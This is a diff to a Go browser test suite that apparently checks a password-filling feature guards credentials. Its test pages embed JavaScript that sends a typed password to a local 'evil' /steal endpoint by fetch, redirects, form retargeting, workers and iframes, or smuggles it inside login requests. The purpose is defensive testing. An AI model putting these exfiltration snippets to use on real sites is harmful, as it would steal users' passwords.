@@ -25,7 +25,8 @@ func TestAPlaceholderIsStoppedOnEveryOtherWay(t *testing.T) {
 		w.Header().Set("Access-Control-Allow-Headers", "*")
 	}
 	evil.Handlers["/steal"] = cors
-	const start = `<form id=f method=post action=/login><input type=password name=p id=p aria-label=Password><button>Log in</button></form><p id=out>ready</p><script>
+	const start = `<form id=f method=post action=/login><input type=password name=p id=p aria-label=Password>` +
+		`<button>Log in</button></form><p id=out>ready</p><script>
 const steal = u => `
 	s := browsertest.NewSite(t, map[string]string{
 		"/post":   start + `fetch(u, {method: 'POST', body: JSON.stringify({p: p.value})});`,
@@ -36,12 +37,15 @@ const steal = u => `
 		"/move":   start + `{ location = u + '?' + encodeURIComponent(p.value) };`,
 		"/form":   start + `{ f.action = u; f.submit() };`,
 		"/get":    start + `{ f.method = 'get'; f.submit() };`,
-		"/worker": start + `new Worker(URL.createObjectURL(new Blob(['onmessage = e => fetch(e.data.u, {method: "POST", body: e.data.p})']))).postMessage({u, p: p.value});`,
-		"/frame":  start + `{ const i = document.createElement('iframe'); i.src = u + '?' + p.value; document.body.append(i) };`,
-		"/inside": start + `fetch('/login', {method: 'POST', headers: {'Content-Type': 'text/xml'}, body: '<p>' + p.value + '</p>'});`,
-		"/wrap":   start + `fetch('/login', {method: 'POST', body: JSON.stringify({all: 'p=' + p.value})});`,
-		"/basic":  start + `fetch('/login', {method: 'POST', headers: {Authorization: 'Basic ' + btoa('u:' + p.value)}});`,
-		"/key":    start + `fetch('/login', {method: 'POST', body: JSON.stringify({[p.value]: 1})});`,
+		"/worker": start + `new Worker(URL.createObjectURL(new Blob(['onmessage = e => fetch(e.data.u, {method: "POST", ` +
+			`body: e.data.p})']))).postMessage({u, p: p.value});`,
+		"/frame": start + `{ const i = document.createElement('iframe'); i.src = u + '?' + p.value; ` +
+			`document.body.append(i) };`,
+		"/inside": start + `fetch('/login', {method: 'POST', headers: {'Content-Type': 'text/xml'}, ` +
+			`body: '<p>' + p.value + '</p>'});`,
+		"/wrap":  start + `fetch('/login', {method: 'POST', body: JSON.stringify({all: 'p=' + p.value})});`,
+		"/basic": start + `fetch('/login', {method: 'POST', headers: {Authorization: 'Basic ' + btoa('u:' + p.value)}});`,
+		"/key":   start + `fetch('/login', {method: 'POST', body: JSON.stringify({[p.value]: 1})});`,
 	})
 	for path := range s.Pages {
 		s.Pages[path] += "</script><button onclick=\"steal('" + evil.URL + "/steal')\">Steal</button>"
@@ -71,9 +75,13 @@ func TestASwappedRequestIsNotRedirectedAway(t *testing.T) {
 	ctx, p, _ := openPage(t)
 	evil := browsertest.NewSite(t, map[string]string{"/steal": "stolen"})
 	s := browsertest.NewSite(t, map[string]string{
-		"/form":  `<form method=post action=/away><input type=password name=p aria-label=Password><button>Log in</button></form>`,
-		"/fetch": `<form id=f><input type=password name=p aria-label=Password><button>Log in</button></form><script>f.onsubmit = e => { e.preventDefault(); fetch('/away', {method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(f))}) }</script>`,
-		"/near":  `<form method=post action=/moved><input type=password name=p aria-label=Password><button>Log in</button></form>`,
+		"/form": `<form method=post action=/away><input type=password name=p aria-label=Password><button>Log in</button>` +
+			`</form>`,
+		"/fetch": `<form id=f><input type=password name=p aria-label=Password><button>Log in</button></form>` +
+			`<script>f.onsubmit = e => { e.preventDefault(); fetch('/away', {method: 'POST', mode: 'no-cors', ` +
+			`body: new URLSearchParams(new FormData(f))}) }</script>`,
+		"/near": `<form method=post action=/moved><input type=password name=p aria-label=Password><button>Log in</button>` +
+			`</form>`,
 		"/there": "<h1>Welcome</h1>",
 	})
 	s.Handlers["/away"] = func(w http.ResponseWriter, r *http.Request) {
@@ -111,13 +119,17 @@ func TestASwappedRequestIsNotRedirectedAway(t *testing.T) {
 func TestEchoedSecretsAreScrubbed(t *testing.T) {
 	ctx, p, _ := openPage(t)
 	const secret = "correct-Horse_7.battery"
-	s := browsertest.NewSite(t, map[string]string{"/": `<form method=post action=/login><input type=password name=p aria-label=Password><button>Log in</button></form>`})
+	s := browsertest.NewSite(t, map[string]string{"/": `<form method=post action=/login>` +
+		`<input type=password name=p aria-label=Password><button>Log in</button></form>`})
 	s.Handlers["/login"] = func(w http.ResponseWriter, r *http.Request) {
 		_ = r.ParseForm()
 		pw := r.PostForm.Get("p")
 		w.Header().Set("Content-Type", "text/html")
-		_, _ = fmt.Fprintf(w, `<title>Wrong: %[1]s</title><p>Wrong password %[1]s.</p><p>Split <b>correct-Horse</b>_7.battery</p><p style="text-transform:uppercase">%[1]s</p>
-<input aria-label="Tried %[1]s" value="%[1]s"><button>Forget %[1]s</button><p>%[2]s</p><a href="?p=%[1]s">again</a><select aria-label=Old><option>%[1]s</select><img alt="%[1]s"><script>history.replaceState(0, '', '?p=%[1]s'); if (!sessionStorage.x) alert('%[1]s')</script>`,
+		_, _ = fmt.Fprintf(w, `<title>Wrong: %[1]s</title><p>Wrong password %[1]s.</p>`+
+			`<p>Split <b>correct-Horse</b>_7.battery</p><p style="text-transform:uppercase">%[1]s</p>
+<input aria-label="Tried %[1]s" value="%[1]s"><button>Forget %[1]s</button><p>%[2]s</p><a href="?p=%[1]s">again</a>`+
+			`<select aria-label=Old><option>%[1]s</select><img alt="%[1]s"><script>history.replaceState(0, '', '?p=%[1]s'); `+
+			`if (!sessionStorage.x) alert('%[1]s')</script>`,
 			pw, base64.StdEncoding.EncodeToString([]byte("user:"+pw)))
 	}
 	obs := browsertest.Open(ctx, t, p, s.URL+"/")
@@ -143,9 +155,13 @@ func TestEchoedSecretsAreScrubbed(t *testing.T) {
 func TestDirectFillTypesTheValueAndGuardsIt(t *testing.T) {
 	ctx, p, b := openPage(t)
 	evil := browsertest.NewSite(t, nil)
-	s := browsertest.NewSite(t, map[string]string{"/": `<form id=f onsubmit="event.preventDefault(); fetch('/login', {method: 'POST', body: '<xml>' + p.value + '</xml>'})"><input type=password id=p aria-label=Password><button>Log in</button></form>
+	s := browsertest.NewSite(t, map[string]string{"/": `<form id=f onsubmit="event.preventDefault(); fetch('/login', ` +
+		`{method: 'POST', body: '<xml>' + p.value + '</xml>'})"><input type=password id=p aria-label=Password>` +
+		`<button>Log in</button></form>
 <button onclick="fetch('` + evil.URL +
-		`/steal', {method: 'POST', mode: 'no-cors', body: p.value})">Steal</button><button onclick="p.type = 'text'">Show</button><input id=copy aria-label=Copy><button onclick="copy.value = p.value">Move</button>`})
+		`/steal', {method: 'POST', mode: 'no-cors', body: p.value})">Steal</button>` +
+		`<button onclick="p.type = 'text'">Show</button><input id=copy aria-label=Copy>` +
+		`<button onclick="copy.value = p.value">Move</button>`})
 	obs := browsertest.Open(ctx, t, p, s.URL+"/")
 	fill := browsertest.Login("password", browsertest.Hunter, s.URL)
 	fill.Direct = true
@@ -201,7 +217,8 @@ func TestDirectFillTypesTheValueAndGuardsIt(t *testing.T) {
 // ever after a login.
 func TestInterceptionEndsWithItsReason(t *testing.T) {
 	ctx, p, _ := openPage(t)
-	s := browsertest.NewSite(t, map[string]string{"/": `<form method=post action=/login><input type=password name=p aria-label=Password><button>Log in</button></form>`, "/login": "<h1>Welcome</h1>"})
+	s := browsertest.NewSite(t, map[string]string{"/": `<form method=post action=/login>` +
+		`<input type=password name=p aria-label=Password><button>Log in</button></form>`, "/login": "<h1>Welcome</h1>"})
 	obs := browsertest.Open(ctx, t, p, s.URL+"/")
 	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
 		browsertest.Login("password", browsertest.Hunter, s.URL)))
